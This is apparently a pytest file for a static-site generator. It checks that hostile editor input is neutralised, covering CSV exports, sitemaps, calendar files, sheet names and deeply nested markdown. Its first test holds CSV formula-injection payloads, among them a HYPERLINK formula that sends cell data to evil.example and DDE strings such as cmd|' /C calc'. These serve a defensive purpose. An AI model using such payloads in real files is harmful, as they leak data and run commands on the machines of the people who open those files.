"""Content a careless or hostile editor may write that is still good content: it builds, and what it
holds reaches every output as text of that output's kind (issue 11)."""
import csv
import io
import json
import re
import shutil
import subprocess
import xml.etree.ElementTree as ElementTree

import pytest

from conftest import CHIBO, ROOT, build

GOOD = ROOT / "Tests" / "Fixtures" / "scorecard-site"
DATE = ("--date", "2024-04-10")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def copy_site(tmp_path):
    content = tmp_path / "content"
    shutil.copytree(GOOD, content)
    return content


def replace(path, old, new):
    text = path.read_bytes().decode("utf-8")
    assert text.count(old) >= 1, (path, old)
    path.write_bytes(text.replace(old, new).encode("utf-8"))


def test_cells_that_spreadsheets_read_as_formulas_stay_text(tmp_path):
    content = copy_site(tmp_path)
    names = {
        "Chi bộ Văn phòng Sở": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "Chi bộ Công ty Điện lực": "+cmd|' /C calc'!A0",
        "Đảng bộ Sở Y tế": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    for old, new in names.items():
        replace(content / "units.csv", old + ";", '"' + new.replace('"', '""') + '";')
    output = tmp_path / "public"
    result = build(content, output, *DATE)
    assert result.returncode == 0, result.stderr
    text = (output / "data" / "findings.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > 5
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)]
    assert not live, f"cells a spreadsheet would evaluate: {live[:5]}"
    shown = {cell for cell in cells if cell.startswith("'")}
    for name in names.values():
        assert "'" + name in shown, f"{name} is not in findings.csv as text"


def test_attachments_of_allowed_kinds_are_published_and_litter_is_left_out(tmp_path):
    content = copy_site(tmp_path)
    guidance = content / "guidance"
    (guidance / "Mẫu biên bản.PDF").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    (guidance / "so-do.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(16))
    (guidance / "huong-dan.txt").write_text("Hướng dẫn\r\n\tghi biên bản\n", encoding="utf-8")
    (guidance / "Thumbs.db").write_bytes(b"\xd0\xcf\x11\xe0")
    (guidance / "~$mau.docx").write_bytes(b"\x00\x01")
    output = tmp_path / "public"
    result = build(content, output, *DATE)
    assert result.returncode == 0, result.stderr
    assert (output / "van-ban" / "mau-bien-ban.pdf").read_bytes().startswith(b"%PDF-")
    assert (output / "van-ban" / "so-do.png").is_file()
    assert (output / "van-ban" / "huong-dan.txt").is_file()
    assert not list(output.rglob("*thumbs*")) and not list(output.rglob("*mau.docx"))
    assert re.search(r"^guidance/Thumbs\.db:1:1: warning: .*not published", result.stderr, re.M)
    assert re.search(r"^guidance/~\$mau\.docx:1:1: warning: .*not published", result.stderr, re.M)


def test_urls_in_the_sitemap_and_calendar_come_from_a_checked_base_url(tmp_path):
    content = copy_site(tmp_path)
    with open(content / "site.yaml", "a", encoding="utf-8") as file:
        file.write("base_url: HTTPS://Intranet.Example:8443/so-tay/\n")
    output = tmp_path / "public"
    result = build(content, output, *DATE)
    assert result.returncode == 0, result.stderr
    tree = ElementTree.parse(output / "sitemap.xml")
    locations = [element.text for element in tree.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
    assert locations and all(re.fullmatch(r"https://intranet\.example:8443/so-tay/[\x21-\x7e]*", url)
                             for url in locations), locations[:3]
    calendar = (output / "schedule.ics").read_bytes().decode("utf-8")
    lines = calendar.split("\r\n")
    assert all("\n" not in line and "\r" not in line for line in lines)
    urls = [line for line in lines if line.startswith("URL:")]
    assert urls and all(line.startswith("URL:https://intranet.example:8443/so-tay/") for line in urls)
    assert not [line for line in lines if line.startswith("ATTENDEE")]


def workbook_with_sheet_name(path, sheet_name_xml):
    """meetings/2024-q2.xlsx whose one sheet, named by `sheet_name_xml` (XML, character references
    allowed), has a record dated the 31st of February: an error at a cell, which names the sheet."""
    import zipfile

    import openpyxl

    rows = list(csv.reader(io.StringIO((GOOD / "meetings" / "2024-q1.csv").read_text("utf-8-sig")), delimiter=";"))
    record = list(rows[1])
    record[1] = "31/02/2024"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "PLACEHOLDER"
    sheet.append(rows[0])
    sheet.append(record)
    buffer = io.BytesIO()
    book.save(buffer)
    source = zipfile.ZipFile(buffer)
    parts = {name: source.read(name) for name in source.namelist()}
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b'"PLACEHOLDER"', b'"' + sheet_name_xml + b'"')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)


def test_a_sheet_name_cannot_forge_a_diagnostic_line_nor_make_one_huge(tmp_path):
    forged = b"Qu\xc3\xbd 2&#10;meetings/x.csv:1:1: error: forged&#13;&#x2028;&#x202E;&#x85;"
    huge = "Đ".encode("utf-8") * 200_000
    # The workbook reader refuses both names at the file: a control character, quoting the name
    # escaped onto one line; more than 255 characters, without quoting it.
    shown = {
        forged: r'"Quý 2\nmeetings/x.csv:1:1: error: forged\r\u{2028}\u{202E}\u{0085}"',
        huge: "a sheet's name is longer than 255 characters",
    }
    for sheet_name_xml, expected in shown.items():
        content = copy_site(tmp_path / str(len(sheet_name_xml)))
        workbook_with_sheet_name(content / "meetings" / "2024-q2.xlsx", sheet_name_xml)
        result = build(content, tmp_path / "public", *DATE)
        assert result.returncode == 1, result.stderr
        lines = result.stderr.split("\n")
        cell = [line for line in lines if line.startswith("meetings/2024-q2.xlsx:1:1: error: ")]
        assert len(cell) == 1 and expected in cell[0], lines
        assert not any(line.startswith("meetings/x.csv") for line in lines), lines
        assert all(len(line) < 400 for line in lines), max(len(line) for line in lines)
        assert not any(c in result.stderr for c in "\r\u2028\u2029\u202e\x85"), repr(result.stderr)


DEEP_MARKDOWN = {
    # 50,000 block quotes on one line: the document, 99 quotes, and what the 100th `>` starts is past the limit.
    "block-quotes": ("> " * 50_000 + "x\n", 1, 1 + 2 * 99),
    # Lists in list items, each indented under the one before: a list and an item per level.
    "lists": ("".join("  " * level + "- a\n" for level in range(2_000)), 50, 99),
    # Emphasis in emphasis: the 99th `*` is the 101st container (document, paragraph, 98 emphases).
    "emphasis": ("*a " * 20_000 + "b" + "*" * 20_000 + "\n", 1, 1 + 3 * 98),
    # Images in image descriptions (a link cannot hold a link).
    "images": ("![a " * 20_000 + "b" + "](/x)" * 20_000 + "\n", 1, 1 + 4 * 98),
    # Strong text in emphasis in strong text...: `***` opens both, two levels a run.
    "strong-and-emphasis": ("***a " * 10_000 + "b" + "***" * 10_000 + "\n", 1, 1 + 5 * 49),
}


@pytest.mark.parametrize("case", sorted(DEEP_MARKDOWN))
def test_markdown_nested_past_the_limit_is_an_error_at_the_place(tmp_path, case):
    text, line, column = DEEP_MARKDOWN[case]
    content = copy_site(tmp_path)
    (content / "guidance" / "sau.md").write_text("---\ntitle: Sâu\n---\n" + text, encoding="utf-8")
    result = build(content, tmp_path / "public", *DATE)
    assert result.returncode == 1, result.stderr[-2000:]
    expected = f"guidance/sau.md:{line + 3}:{column}: error: block quotes, lists, emphasis or links are nested"
    assert any(line.startswith(expected) for line in result.stderr.splitlines()), result.stderr[-2000:]
    assert not (tmp_path / "public").exists()


@pytest.mark.parametrize("open_tag,close_tag", [("{{#site}}", "{{/site}}"), ("{{$b}}", "{{/b}}")])
def test_twenty_thousand_nested_template_sections_are_an_error_at_the_hundred_and_first(tmp_path, open_tag, close_tag):
    theme = tmp_path / "theme"
    shutil.copytree(ROOT / "site-theme", theme)
    nested = open_tag * 20_000 + close_tag * 20_000
    with open(theme / "templates" / "404.mustache", "a", encoding="utf-8") as file:
        file.write("\n" + nested + "\n")
    lines = (theme / "templates" / "404.mustache").read_text(encoding="utf-8").count("\n")
    output = tmp_path / "public"
    result = subprocess.run(
        [str(CHIBO), "build", "--content", str(GOOD), "--output", str(output), "--theme", str(theme), *DATE],
        capture_output=True, text=True, check=False)
    assert result.returncode == 1, result.stderr[-2000:]
    assert not output.exists()
    result = subprocess.run(
        [str(CHIBO), "check", "--format", "json", "--content", str(GOOD), "--theme", str(theme), *DATE],
        capture_output=True, text=True, check=False)
    errors = [(item["file"], item["line"], item["column"], item["code"])
              for item in json.loads(result.stdout)["diagnostics"] if item["severity"] == "error"]
    assert errors == [(f"{theme}/templates/404.mustache", lines, 1 + len(open_tag) * 100, "theme.too-deep")], errors
